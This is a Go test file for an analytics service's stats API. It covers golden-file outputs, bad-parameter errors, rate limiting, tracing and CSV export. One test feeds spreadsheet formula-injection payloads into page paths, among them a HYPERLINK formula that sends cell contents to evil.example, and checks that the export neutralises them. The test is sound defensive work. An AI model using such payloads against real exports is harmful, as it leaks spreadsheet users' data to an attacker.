package query

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gofiber/fiber/v2"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/prometheus/client_golang/prometheus"
	"go.opentelemetry.io/otel/propagation"
	"go.opentelemetry.io/otel/sdk/trace/tracetest"
	"go.opentelemetry.io/otel/trace"

	"github.com/haru-analytics/haru/pkg/clock"
	"github.com/haru-analytics/haru/pkg/natstest"
	"github.com/haru-analytics/haru/pkg/natsutil"
	"github.com/haru-analytics/haru/pkg/pgtest"
	"github.com/haru-analytics/haru/pkg/seed"
	"github.com/haru-analytics/haru/pkg/telemetry"
	"github.com/haru-analytics/haru/services/writer"
)

var update = flag.Bool("update", false, "rewrite the golden files of the stats API")

// statsFixture is a query service over a fixed data set: site 1 in Europe/Paris with
// about 5000 events over the 60 days before a fixed now, rollups built by the writer's
// rebuild path.
type statsFixture struct {
	app  *fiber.App
	key  string
	site int64
}

func newStatsFixture(t *testing.T, rateLimit int, tracing ...*telemetry.Tracing) statsFixture {
	t.Helper()
	db := pgtest.New(t)
	ns := natstest.New(t)
	ctx := context.Background()
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	paris, _ := time.LoadLocation("Europe/Paris")
	now := time.Date(2026, 11, 27, 16, 30, 0, 0, paris)
	cfg := Config{NATS: natsutil.Config{Prefix: "haru", Stream: natsutil.DefaultStreamSettings()}, Heartbeat: time.Second, APIRateLimit: rateLimit}
	deps := Deps{Log: log, Metrics: prometheus.NewRegistry(), Health: telemetry.NewHealth(),
		Clock: clock.NewFake(now), NATS: ns.Conn(t), Pool: db.Pool}
	if len(tracing) > 0 {
		deps.Tracing = tracing[0]
	}
	svc, err := New(ctx, cfg, deps)
	if err != nil {
		t.Fatal(err)
	}
	app := NewApp(AppConfig(log))
	svc.Register(app)
	adm, err := NewAdmin(db.Pool)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := adm.CreateUser(ctx, "owner@example.com", "owner-password"); err != nil {
		t.Fatal(err)
	}
	site, err := adm.CreateSite(ctx, "owner@example.com", "Shop", "shop.example", "Europe/Paris")
	if err != nil {
		t.Fatal(err)
	}
	key, err := adm.CreateAPIKey(ctx, "owner@example.com", "k")
	if err != nil {
		t.Fatal(err)
	}
	from := now.AddDate(0, 0, -60)
	if _, err := seed.Load(ctx, db.Pool, seed.NewGenerator(site.ID, from, now.Add(-time.Minute), 42), 5000); err != nil {
		t.Fatal(err)
	}
	if err := writer.RebuildRollups(ctx, db.Pool, site.ID, from, now); err != nil {
		t.Fatal(err)
	}
	return statsFixture{app: app, key: key, site: site.ID}
}

func (f statsFixture) get(t *testing.T, path string) (*http.Response, []byte) {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, fmt.Sprintf("/api/v1/sites/%d%s", f.site, path), nil)
	req.Header.Set("Authorization", "Bearer "+f.key)
	resp, err := f.app.Test(req, 10000)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, body
}

// TestStatsAPIGolden compares the stats API's answers on a fixed data set with the
// files in testdata/golden (go test -run Golden -update rewrites them).
func TestStatsAPIGolden(t *testing.T) {
	f := newStatsFixture(t, 0)
	cases := map[string]string{
		"dashboard_30d":          "/dashboard?period=30d",
		"dashboard_today":        "/dashboard?period=today",
		"dashboard_24h":          "/dashboard?period=24h&limit=3",
		"dashboard_filtered":     "/dashboard?period=30d&limit=5&filter=" + url.QueryEscape("page:is:/pricing") + "&filter=" + url.QueryEscape("country:is_not:US"),
		"dashboard_entry_filter": "/dashboard?period=7d&limit=3&filter=" + url.QueryEscape("entry_page:is:/"),
		"aggregate_month":        "/aggregate?period=month&metrics=visitors,bounce_rate,visit_duration",
		"aggregate_custom":       "/aggregate?period=custom&from=2026-10-01&to=2026-10-31&compare=none",
		"timeseries_week":        "/timeseries?period=custom&from=2026-10-01&to=2026-11-27&interval=week",
		"breakdown_page":         "/breakdown?dimension=page&period=30d&limit=5&page=2",
		"breakdown_exit":         "/breakdown?dimension=exit_page&period=30d&limit=5",
		"breakdown_prop":         "/breakdown?dimension=prop.plan&period=30d",
		"breakdown_props":        "/breakdown?dimension=props&period=30d",
		"breakdown_event":        "/breakdown?dimension=event&period=all",
		"export_page":            "/export.csv?dimension=page&period=7d&limit=5",
		"export_series":          "/export.csv?period=7d",
	}
	for name, path := range cases {
		t.Run(name, func(t *testing.T) {
			resp, body := f.get(t, path)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s = %d %s", path, resp.StatusCode, body)
			}
			ext := ".json"
			if strings.HasPrefix(name, "export") {
				ext = ".csv"
				if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") {
					t.Errorf("Content-Disposition = %q", cd)
				}
			} else {
				var out bytes.Buffer
				if err := json.Indent(&out, body, "", "  "); err != nil {
					t.Fatal(err)
				}
				body = append(out.Bytes(), '\n')
			}
			file := filepath.Join("testdata", "golden", name+ext)
			if *update {
				if err := os.WriteFile(file, body, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(want, body) {
				t.Errorf("%s differs from %s:\n%s", path, file, body)
			}
		})
	}
}

// TestStatsAPIBadRequests: every bad parameter is a 400 naming it.
func TestStatsAPIBadRequests(t *testing.T) {
	f := newStatsFixture(t, 0)
	for path, field := range map[string]string{
		"/dashboard?period=fortnight":                                           "period",
		"/dashboard?period=custom&to=2026-01-01":                                "from",
		"/aggregate?period=custom&from=2026-01-01":                              "to",
		"/timeseries?period=custom&from=2026-02-01&to=2026-01-01":               "to",
		"/timeseries?period=custom&from=2025-01-01&to=2026-01-01&interval=hour": "interval",
		"/timeseries?interval=fortnightly":                                      "interval",
		"/dashboard?filter=page":                                                "filter",
		"/dashboard?filter=page:contains:x":                                     "filter",
		"/dashboard?filter=prop:plan:is:pro":                                    "filter",
		"/aggregate?metrics=clicks":                                             "metrics",
		"/aggregate?compare=yes":                                                "compare",
		"/breakdown":                                                            "dimension",
		"/breakdown?dimension=planet":                                           "dimension",
		"/breakdown?dimension=page&metrics=bounce_rate":                         "metrics",
		"/breakdown?dimension=page&limit=0":                                     "limit",
		"/breakdown?dimension=page&page=-1":                                     "page",
		"/export.csv?dimension=nope":                                            "dimension",
		"/live?period=never":                                                    "period",
	} {
		resp, body := f.get(t, path)
		var e struct{ Error, Field string }
		if resp.StatusCode != http.StatusBadRequest || json.Unmarshal(body, &e) != nil || e.Field != field || e.Error == "" {
			t.Errorf("%s = %d %.200s; want 400 naming %s", path, resp.StatusCode, body, field)
		}
	}
}

// TestExportCSVShowsFormulasAsText: text a visitor's beacon chose (here page paths) that a
// spreadsheet would run as a formula comes out of the CSV export with a leading quote, so
// it opens as text; other text and the numbers are untouched.
func TestExportCSVShowsFormulasAsText(t *testing.T) {
	e := newWebEnv(t, "")
	b := e.browser(t)
	b.register("ann@example.com", "correct horse battery")
	site := b.createSite("Shop", "shop.example")
	ctx := context.Background()
	if _, err := e.db.Pool.Exec(ctx, `SELECT ensure_event_partitions(now() - interval '1 day', now())`); err != nil {
		t.Fatal(err)
	}
	tests := []struct{ path, cell string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, `'=HYPERLINK("https://evil.example/?"&A1,"x")`},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"/pricing", "/pricing"},
		{"/a=b+c-d@e", "/a=b+c-d@e"},
	}
	var want []string
	for _, tt := range tests {
		if _, err := e.db.Pool.Exec(ctx, `INSERT INTO events (site_id, ts, id, name, visitor_id, path)
			VALUES ($1, now() - interval '1 minute', gen_random_uuid(), 'pageview', 1, $2)`, site, tt.path); err != nil {
			t.Fatal(err)
		}
		want = append(want, tt.cell)
	}
	a := b.get(fmt.Sprintf("/app/sites/%d/data/export.csv?period=24h&dimension=page&limit=100", site))
	if a.status != http.StatusOK {
		t.Fatalf("export = %d %s", a.status, a.body)
	}
	records, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range records[1:] {
		if r[1] != "1" {
			t.Errorf("row %q: visitors %q, want 1", r, r[1])
		}
		got = append(got, r[0])
	}
	if diff := cmp.Diff(want, got, cmpopts.SortSlices(func(a, b string) bool { return a < b })); diff != "" {
		t.Fatalf("page cells of the export (-want +got):\n%s", diff)
	}
}

// TestStatsAPIRateLimit: past the limit an API key gets 429 with Retry-After.
func TestStatsAPIRateLimit(t *testing.T) {
	f := newStatsFixture(t, 3)
	for i := range 3 {
		if resp, body := f.get(t, "/aggregate"); resp.StatusCode != http.StatusOK {
			t.Fatalf("request %d = %d %s", i, resp.StatusCode, body)
		}
	}
	resp, _ := f.get(t, "/aggregate")
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
		t.Fatalf("over the limit = %d, Retry-After %q; want 429 with Retry-After", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
}

// TestStatsTracing: a stats request records a server span named by its route, and each
// SQL statement a client span beneath it; no span carries an address or user agent.
func TestStatsTracing(t *testing.T) {
	rec := tracetest.NewSpanRecorder()
	tr, err := telemetry.NewTracingWith(rec, "query", propagation.TraceContext{})
	if err != nil {
		t.Fatal(err)
	}
	f := newStatsFixture(t, 0, tr)
	req := httptest.NewRequest(http.MethodGet, fmt.Sprintf("/api/v1/sites/%d/dashboard?period=30d", f.site), nil)
	req.Header.Set("Authorization", "Bearer "+f.key)
	req.Header.Set("User-Agent", "secret-agent")
	if resp, err := f.app.Test(req, 10000); err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("dashboard = %v, %v", resp, err)
	}
	var server trace.SpanContext
	sql := 0
	for _, s := range rec.Ended() {
		for _, a := range s.Attributes() {
			if strings.Contains(a.Value.String(), "secret-agent") || strings.Contains(a.Value.String(), "0.0.0.0") {
				t.Errorf("span %s carries %s=%s", s.Name(), a.Key, a.Value.String())
			}
		}
		switch {
		case s.Name() == "GET /api/v1/sites/:site/dashboard":
			server = s.SpanContext()
		case s.Name() == "stats SELECT":
			sql++
		}
	}
	if !server.IsValid() || sql < 5 {
		t.Fatalf("request span %v, %d SQL spans; want one and several", server.IsValid(), sql)
	}
	for _, s := range rec.Ended() {
		if s.Name() == "stats SELECT" && s.Parent().TraceID() != server.TraceID() {
			t.Errorf("SQL span outside the request's trace")
		}
	}
}
